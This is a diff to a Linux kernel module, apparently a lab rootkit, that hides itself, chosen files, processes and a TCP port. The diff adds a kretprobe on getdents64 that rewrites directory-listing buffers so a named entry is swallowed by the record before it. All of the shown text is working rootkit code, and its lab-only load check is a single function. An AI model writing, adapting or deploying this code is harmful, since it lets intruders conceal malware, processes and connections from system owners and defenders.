@@ -6,13 +6,17 @@
 //   unlist=1      off the list behind /proc/modules
 //   unsysfs=1     off /sys/module
 //   folder=F,… hide=N,…   name N is left out of what reading folder F gives (for a process: folder=/proc hide=PID)
+//   merge=N       name N is left out of every folder's listing, the way most rootkits do it: the entry before it in the
+//                 buffer of getdents64 is made longer by its length
 //   port=P        local port P is left out of /proc/net/tcp
 #include <linux/fs.h>
+#include <linux/dirent.h>  // needs the types of fs.h
 #include <linux/kprobes.h>
 #include <linux/list.h>
 #include <linux/module.h>
 #include <linux/namei.h>
 #include <linux/string.h>
+#include <linux/uaccess.h>
 #include <net/sock.h>
 
 MODULE_LICENSE("GPL");
@@ -22,12 +26,14 @@ MODULE_DESCRIPTION("hides things in the lab of Firsthour, and loads nowhere else
 
 static bool unlist, unsysfs;
 static char *folder[MOST], *hide[MOST];
+static char *merge = "";
 static int folders, names;
 static ushort port;
 module_param(unlist, bool, 0400);
 module_param(unsysfs, bool, 0400);
 module_param_array(folder, charp, &folders, 0400);
 module_param_array(hide, charp, &names, 0400);
+module_param(merge, charp, 0400);
 module_param(port, ushort, 0400);
 
 static bool in_the_lab(void)
@@ -105,6 +111,56 @@ static int veil_folder(struct veil *veil, const char *folder, const char *hide)
 	return 0;
 }
 
+/* getdents64: after the kernel has filled the caller's buffer, one entry of it is swallowed by the one before. */
+
+#if defined(CONFIG_X86_64)
+#define GETDENTS "__x64_sys_getdents64"
+#elif defined(CONFIG_ARM64)
+#define GETDENTS "__arm64_sys_getdents64"
+#endif
+
+static int remember_buffer(struct kretprobe_instance *call, struct pt_regs *regs)
+{
+	struct pt_regs *arguments = (struct pt_regs *)regs_get_kernel_argument(regs, 0);
+
+	*(char __user **)call->data = (char __user *)regs_get_kernel_argument(arguments, 1);
+	return 0;
+}
+
+static int swallow_entry(struct kretprobe_instance *call, struct pt_regs *regs)
+{
+	const size_t head = offsetof(struct linux_dirent64, d_name), length = strlen(merge) + 1;
+	char __user *buffer = *(char __user **)call->data;
+	long size = (long)regs_return_value(regs), at = 0, before = -1;
+
+	while (at < size) {
+		struct linux_dirent64 entry, previous;
+		char name[64];
+
+		if (copy_from_user_nofault(&entry, buffer + at, head) || entry.d_reclen == 0)
+			return 0;
+		if (before >= 0 && entry.d_reclen >= head + length &&
+		    !copy_from_user_nofault(name, buffer + at + head, length) && !memcmp(name, merge, length) &&
+		    !copy_from_user_nofault(&previous, buffer + before, head)) {
+			previous.d_reclen += entry.d_reclen;
+			if (copy_to_user_nofault(buffer + before, &previous, head))
+				return 0;
+		} else {
+			before = at;
+		}
+		at += entry.d_reclen;
+	}
+	return 0;
+}
+
+static struct kretprobe listing = {
+	.kp.symbol_name = GETDENTS,
+	.entry_handler = remember_buffer,
+	.handler = swallow_entry,
+	.data_size = sizeof(char __user *),
+	.maxactive = 32,
+};
+
 /* /proc/net/tcp: the function that prints one socket returns at once for ours. */
 
 static notrace noinline void just_return(void)
@@ -134,6 +190,8 @@ static int __init veil_init(void)
 		return -EPERM;
 	if (port)
 		failed = register_kprobe(&tcp_line);
+	if (!failed && *merge && strlen(merge) < 63)
+		failed = register_kretprobe(&listing);
 	for (i = 0; !failed && i < folders && i < names; i++)
 		failed = veil_folder(&veils[i], folder[i], hide[i]);
 	if (failed)
